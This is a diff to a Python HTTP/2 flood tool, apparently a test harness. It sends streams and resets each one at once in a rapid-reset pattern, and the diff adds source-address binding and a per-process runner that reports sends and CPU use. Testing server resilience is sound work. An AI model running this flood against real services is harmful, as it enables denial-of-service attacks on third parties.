@@ -6,10 +6,12 @@ answers what the server sends (SETTINGS, PING), so the connection stays up as lo
 
 from __future__ import annotations
 
+import os
 import socket
 import struct
 import threading
 import time
+from multiprocessing.queues import Queue
 
 import h2.config
 import h2.connection
@@ -26,8 +28,10 @@ def grpc_frame(message: bytes) -> bytes:
 class Flood:
     """Streams of `path` with `body`, each reset right after it is sent, until stop() or `seconds` pass."""
 
-    def __init__(self, host: str, port: int, path: str, body: bytes, seconds: float, batch: int = 64) -> None:
+    def __init__(self, host: str, port: int, path: str, body: bytes, seconds: float, batch: int = 64,
+                 source: str | None = None) -> None:
         self.host, self.port, self.path, self.body, self.seconds, self.batch = host, port, path, body, seconds, batch
+        self.source = None if source is None else (source, 0)  # the address the flood comes from
         self.sent, self.connections, self.goaways = 0, 0, 0
         self.stopping = threading.Event()
         self.thread = threading.Thread(target=self._run, daemon=True)
@@ -49,7 +53,7 @@ class Flood:
                 time.sleep(0.05)  # closed by the server (GOAWAY, reset): connect again, as an attacker would
 
     def _connection(self, end: float) -> None:
-        with socket.create_connection((self.host, self.port), timeout=5) as sock:
+        with socket.create_connection((self.host, self.port), timeout=5, source_address=self.source) as sock:
             self.connections += 1
             conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
             conn.initiate_connection()
@@ -80,3 +84,13 @@ class Flood:
                 sock.setblocking(True)
                 sock.sendall(conn.data_to_send())  # SETTINGS and PING acknowledgements
                 sock.setblocking(False)
+
+
+def flood_process(host: str, port: int, path: str, body: bytes, seconds: float, source: str | None,
+                  results: Queue) -> None:
+    """A Flood in a process of its own, as an attacker is another program: puts what it sent and the CPU it used."""
+    t0, flood = time.monotonic(), Flood(host, port, path, body, seconds, source=source).start()
+    flood.thread.join()
+    cpu = os.times()
+    results.put({"sent": flood.sent, "seconds": time.monotonic() - t0, "connections": flood.connections,
+                 "goaways": flood.goaways, "cpu_s": cpu.user + cpu.system})
